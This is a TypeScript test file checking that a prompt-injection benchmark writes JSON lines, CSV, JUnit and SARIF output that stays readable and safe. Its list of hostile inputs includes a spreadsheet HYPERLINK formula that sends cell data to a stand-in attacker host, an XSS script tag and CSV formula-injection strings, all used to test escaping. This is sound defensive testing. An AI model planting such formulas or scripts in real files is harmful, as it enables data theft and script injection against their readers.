import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { ProbedCase } from '../../../src/model/probe.ts'
import { PROBE_OUTPUTS } from '../../../src/results/probe-outputs/index.ts'
import { JsonlWriter } from '../../../src/results/probe-outputs/jsonl-writer.ts'
import type { ProbeReport } from '../../../src/results/probe-outputs/probe-row.ts'
import { verdict } from '../../helpers/judged-cases.ts'
import { probed, RUN_HEAD } from '../../helpers/probed-cases.ts'
import { scratchFolder } from '../../helpers/scratch-folder.ts'
import { readXml, type XmlElement } from '../../helpers/read-xml.ts'

const folder = scratchFolder()

const MISSED = probed('allowed', { caseId: 'inj-1', label: 'malicious', category: 'override' })
const OVERBLOCKED = probed('blocked', { caseId: 'plain-1', status: 403 })
const THROTTLED = probed('undecided', { caseId: 'inj-2', label: 'malicious', status: 429 })
const RIGHT = probed('allowed', { caseId: 'plain-2' })
const DIRECT = probed('allowed', { caseId: 'inj-1', label: 'malicious', endpoint: 'direct' })
const RETRIED = { ...THROTTLED, last: false }

function reportOf(rows: readonly ProbedCase[], given: Partial<ProbeReport> = {}): ProbeReport {
  return {
    head: RUN_HEAD,
    judged: 'proxy',
    probed: rows,
    partial: false,
    placeOf: (id) => ({ file: 'data/my cases.json', line: id === 'inj-1' ? 7 : undefined }),
    ...given,
  }
}

function jsonl({ probed: rows }: ProbeReport): string {
  const path = join(folder.path, 'rows.jsonl')
  const writer = new JsonlWriter(path)
  writer.write(rows)
  writer.close()
  return readFileSync(path, 'utf8')
}

/** Every format, with what reads back the texts of its first row: id, preview or evidence. */
const FORMATS: Readonly<
  Record<
    string,
    {
      readonly render: (report: ProbeReport) => string
      /** How many rows a reader finds, and a text that holds the id of the first. */
      readonly read: (text: string) => { readonly rows: number; readonly id: string }
    }
  >
> = {
  jsonl: {
    render: jsonl,
    read: (text) => {
      const lines = text.split('\n').slice(0, -1)
      const [first] = lines.map((line) => JSON.parse(line) as { id: string })
      return { rows: lines.length, id: first?.id ?? '' }
    },
  },
  csv: {
    render: PROBE_OUTPUTS.outputCsv.render,
    read: (text) => {
      const rows: { id: string }[] = parse(text, { columns: true, relax_quotes: false })
      return { rows: rows.length, id: rows[0]?.id ?? '' }
    },
  },
  junit: {
    render: PROBE_OUTPUTS.outputJunit.render,
    read: (text) => {
      const cases = casesOf(readXml(text))
      return { rows: cases.length, id: cases[0]?.attributes['name'] ?? '' }
    },
  },
  sarif: {
    render: PROBE_OUTPUTS.outputSarif.render,
    read: (text) => {
      const { results } = sarifRun(text)
      const [location] = results[0]?.locations ?? []
      return { rows: results.length, id: location?.logicalLocations[0]?.name ?? '' }
    },
  },
}

function casesOf(root: XmlElement): readonly XmlElement[] {
  return root.children.flatMap((suite) => suite.children)
}

interface SarifResult {
  readonly ruleId: string
  readonly ruleIndex: number
  readonly level: string
  readonly message: { readonly text: string }
  readonly locations: readonly {
    readonly physicalLocation?: {
      readonly artifactLocation: { readonly uri: string }
      readonly region?: { readonly startLine: number }
    }
    readonly logicalLocations: readonly { readonly name: string }[]
  }[]
  readonly partialFingerprints: Readonly<Record<string, string>>
}

function sarifRun(text: string) {
  const log = JSON.parse(text) as {
    $schema: string
    version: string
    runs: {
      tool: { driver: { name: string; version: string; rules: { id: string }[] } }
      invocations: { executionSuccessful: boolean; startTimeUtc: string }[]
      results: SarifResult[]
    }[]
  }
  const [run] = log.runs
  if (run === undefined) throw new Error('a SARIF log has a run')
  return { ...run, log }
}

/** What a stranger may write into a prompt, an answer or an id. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '<script>alert(1)</script> & ]]> "quoted" \'single\'',
  'a,b\r\n"c"\td',
  '\u0000\u0001\u001B[2J\u0007\u007F\u0085\u2028',
  'half a pair \uD83D and \uDE00, \uFFFE\uFFFF',
  '| a | b | `c` {} \\u0041 \\',
  '',
] as const

describe.each(Object.entries(FORMATS))('%s', (_, { render, read }) => {
  test.each(HOSTILE)('holds hostile text and stays readable: %j', (text) => {
    const row = {
      ...MISSED,
      caseId: `id ${text}`,
      category: text,
      preview: text,
      prompt: text,
      verdict: verdict('allowed', {
        evidence: [{ kind: 'answer', field: 'content', quote: text }],
      }),
    }
    const found = read(render(reportOf([row])))
    expect(found.rows).toBe(1)
    expect(found.id.startsWith('id ')).toBe(true)
  })

  test('stays readable whatever strangers write', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const row = { ...MISSED, caseId: `id ${text}`, preview: text, prompt: text }
        expect(read(render(reportOf([row]))).rows).toBe(1)
      }),
      { numRuns: 200 },
    )
  })

  test('of no rows is readable', () => {
    expect(read(render(reportOf([]))).rows).toBe(0)
  })
})

describe('CSV', () => {
  const csv = PROBE_OUTPUTS.outputCsv.render
  const cells = (text: string): Record<string, string>[] => parse(text, { columns: true })

  test('has every attempt of every endpoint', () => {
    const rows = cells(csv(reportOf([DIRECT, RETRIED, THROTTLED, OVERBLOCKED])))
    expect(rows.map(({ id, endpoint, last }) => [id, endpoint, last])).toEqual([
      ['inj-1', 'direct', 'true'],
      ['inj-2', 'proxy', 'false'],
      ['inj-2', 'proxy', 'true'],
      ['plain-1', 'proxy', 'true'],
    ])
    expect(rows[2]).toMatchObject({ blocked: '', expected: 'block', reason: 'throttled' })
    expect(rows[3]).toMatchObject({ status: '403', stage: 'request', by: 'proxy' })
  })

  test('ends each line with CR LF', () => {
    expect(csv(reportOf([RIGHT])).split('\r\n')).toHaveLength(3)
  })

  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '  =1', '\uFF1D1', '\u0000=1'])(
    'makes text of the formula %j',
    (formula) => {
      const [row] = cells(csv(reportOf([{ ...RIGHT, preview: formula }])))
      expect(row?.['preview']).toBe(`'${formula}`)
    },
  )

  test('leaves all other text as it is', () => {
    const plain = 'a, "b"\nc = 1 - 2'
    const [row] = cells(csv(reportOf([{ ...RIGHT, preview: plain }])))
    expect(row?.['preview']).toBe(plain)
  })
})

describe('JUnit', () => {
  const junit = (rows: readonly ProbedCase[]) =>
    readXml(PROBE_OUTPUTS.outputJunit.render(reportOf(rows)))

  test('fails what is wrong, skips what is undecided, and counts both', () => {
    const root = junit([DIRECT, MISSED, OVERBLOCKED, RETRIED, THROTTLED, RIGHT])
    expect(root).toMatchObject({
      name: 'testsuites',
      attributes: { tests: '4', failures: '2', skipped: '1', errors: '0', time: '0.050000' },
    })
    const outcome = ({ attributes, children }: XmlElement) => [
      attributes['classname'],
      attributes['name'],
      children[0]?.name ?? 'passed',
      children[0]?.attributes['type'] ?? '',
    ]
    expect(casesOf(root).map((one) => outcome(one))).toEqual([
      ['override', 'inj-1', 'failure', 'missed-attack'],
      ['plain_task', 'plain-1', 'failure', 'false-positive'],
      ['plain_task', 'inj-2', 'skipped', ''],
      ['plain_task', 'plain-2', 'passed', ''],
    ])
    const [missed] = casesOf(root)
    expect(missed?.children[0]?.attributes['message']).toBe(
      'expected block, was allowed (200, answer/complete: content x)',
    )
    expect(missed?.children[0]?.text).toContain('answer: Paris')
  })

  test('names repeats apart', () => {
    const names = casesOf(junit([RIGHT, { ...RIGHT, repeat: 2 }])).map(
      ({ attributes }) => attributes['name'],
    )
    expect(names).toEqual(['plain-2 (repeat 1)', 'plain-2 (repeat 2)'])
  })

  test('writes out what XML forbids, and keeps line breaks', () => {
    const [one] = casesOf(junit([{ ...MISSED, caseId: 'a\u001Bb\nc\uD800' }]))
    expect(one?.attributes['name']).toBe(String.raw`a\u{1b}b` + '\n' + String.raw`c\u{d800}`)
  })
})

describe('SARIF', () => {
  const sarif = (rows: readonly ProbedCase[], given: Partial<ProbeReport> = {}) =>
    sarifRun(PROBE_OUTPUTS.outputSarif.render(reportOf(rows, given)))

  test('is a log of version 2.1.0 with one run, its tool and its rules', () => {
    const { log, tool, invocations } = sarif([])
    expect(log).toMatchObject({
      $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
      version: '2.1.0',
    })
    expect(tool.driver).toMatchObject({
      name: 'llmtrace-bench',
      version: '0.1.0',
      rules: [
        { id: 'missed-attack', defaultConfiguration: { level: 'error' } },
        { id: 'false-positive', defaultConfiguration: { level: 'warning' } },
      ],
    })
    expect(invocations).toEqual([
      { executionSuccessful: true, startTimeUtc: '2026-11-24T12:00:00.000Z' },
    ])
    expect(sarif([], { partial: true }).invocations[0]?.executionSuccessful).toBe(false)
  })

  test('has a result for each wrong verdict of the judged endpoint, at its row', () => {
    const { results, tool } = sarif([DIRECT, MISSED, OVERBLOCKED, THROTTLED, RIGHT])
    expect(results.map(({ ruleId, level }) => [ruleId, level])).toEqual([
      ['missed-attack', 'error'],
      ['false-positive', 'warning'],
    ])
    for (const { ruleId, ruleIndex } of results) {
      expect(tool.driver.rules[ruleIndex]?.id).toBe(ruleId)
    }
    expect(results[0]?.locations).toEqual([
      {
        physicalLocation: {
          artifactLocation: { uri: 'data/my%20cases.json' },
          region: { startLine: 7 },
        },
        logicalLocations: [{ name: 'inj-1', fullyQualifiedName: 'override/inj-1', kind: 'object' }],
      },
    ])
    expect(results[1]?.locations[0]?.physicalLocation).toEqual({
      artifactLocation: { uri: 'data/my%20cases.json' },
    })
    expect(results[0]?.partialFingerprints).toEqual({ 'caseAndEndpoint/v1': 'inj-1@proxy' })
  })

  test('has no file where there is no dataset', () => {
    const { results } = sarif([MISSED], { placeOf: () => undefined })
    expect(results[0]?.locations[0]).not.toHaveProperty('physicalLocation')
  })
})

describe('JSON lines', () => {
  test('are on the disk as soon as they are written, and revised ones say so', () => {
    const path = join(folder.path, 'live.jsonl')
    const writer = new JsonlWriter(path)
    writer.write([MISSED])
    const lines = () => readFileSync(path, 'utf8').trimEnd().split('\n')
    expect(lines()).toHaveLength(1)
    writer.write([OVERBLOCKED], true)
    expect(lines().map((line) => JSON.parse(line) as unknown)).toMatchObject([
      { id: 'inj-1', blocked: 'False', verdict: { kind: 'allowed' } },
      { id: 'plain-1', blocked: 'True', revised: true },
    ])
    writer.close()
    expect(writer.problem).toBeUndefined()
  })

  test('a full disk ends the file and not the run', () => {
    const writer = new JsonlWriter('/dev/full')
    writer.write([MISSED])
    writer.write([MISSED])
    writer.close()
    expect(writer.problem).toBe('ENOSPC')
  })
})
